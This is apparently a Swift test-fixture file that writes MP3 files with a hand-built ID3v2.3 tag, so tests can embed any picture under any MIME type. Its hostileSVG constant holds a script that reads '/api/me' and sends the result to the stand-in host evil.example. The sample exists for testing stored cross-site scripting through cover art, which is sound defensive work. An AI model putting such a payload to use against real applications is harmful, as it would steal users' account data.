import Foundation

/// MP3 files whose embedded picture is whatever a test wants, declared with whatever MIME
/// type it wants: ffmpeg refuses to attach an SVG or HTML "picture", so the ID3v2.3 tag is
/// written here, byte by byte, in front of an MP3 made by ffmpeg without a tag.
public enum PictureFixtures {
    /// A small SVG that, opened as a page, would read `/api/me` and send it away.
    public static let hostileSVG = Array("""
        <svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">
        <script>fetch('/api/me').then(r => r.text()).then(t => fetch('https://evil.example/?' + t))</script>
        <rect width="64" height="64" fill="red"/></svg>
        """.utf8)

    /// An MP3 tone with title `title` and one APIC frame holding `picture` as `mime`.
    @discardableResult
    public static func mp3(at url: URL, title: String, picture: [UInt8], mime: String, seconds: Double = 1) async throws -> URL {
        try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
        let bare = url.deletingLastPathComponent().appendingPathComponent(".bare-\(UUID().uuidString).mp3")
        defer { try? FileManager.default.removeItem(at: bare) }
        try await AudioFixtures.run("ffmpeg", [
            "-y", "-v", "error", "-f", "lavfi", "-i", "sine=frequency=440:duration=\(seconds)",
            "-c:a", "libmp3lame", "-b:a", "64k", "-id3v2_version", "0", "-write_id3v1", "0", bare.path,
        ])
        let audio = try Data(contentsOf: bare)
        // TIT2: text encoding 3 (UTF-8), the title.
        let titleFrame = frame("TIT2", [3] + Array(title.utf8))
        // APIC: encoding 0, MIME, NUL, picture type 3 (front cover), empty description, data.
        let pictureFrame = frame("APIC", [0] + Array(mime.utf8) + [0, 3, 0] + picture)
        let frames = titleFrame + pictureFrame
        var tag: [UInt8] = Array("ID3".utf8) + [3, 0, 0]
        tag += syncsafe(frames.count) + frames
        try (Data(tag) + audio).write(to: url)
        return url
    }

    private static func frame(_ id: String, _ body: [UInt8]) -> [UInt8] {
        Array(id.utf8) + bigEndian(body.count) + [0, 0] + body
    }

    private static func bigEndian(_ value: Int) -> [UInt8] {
        [UInt8(value >> 24 & 0xFF), UInt8(value >> 16 & 0xFF), UInt8(value >> 8 & 0xFF), UInt8(value & 0xFF)]
    }

    private static func syncsafe(_ value: Int) -> [UInt8] {
        [UInt8(value >> 21 & 0x7F), UInt8(value >> 14 & 0x7F), UInt8(value >> 7 & 0x7F), UInt8(value & 0x7F)]
    }
}
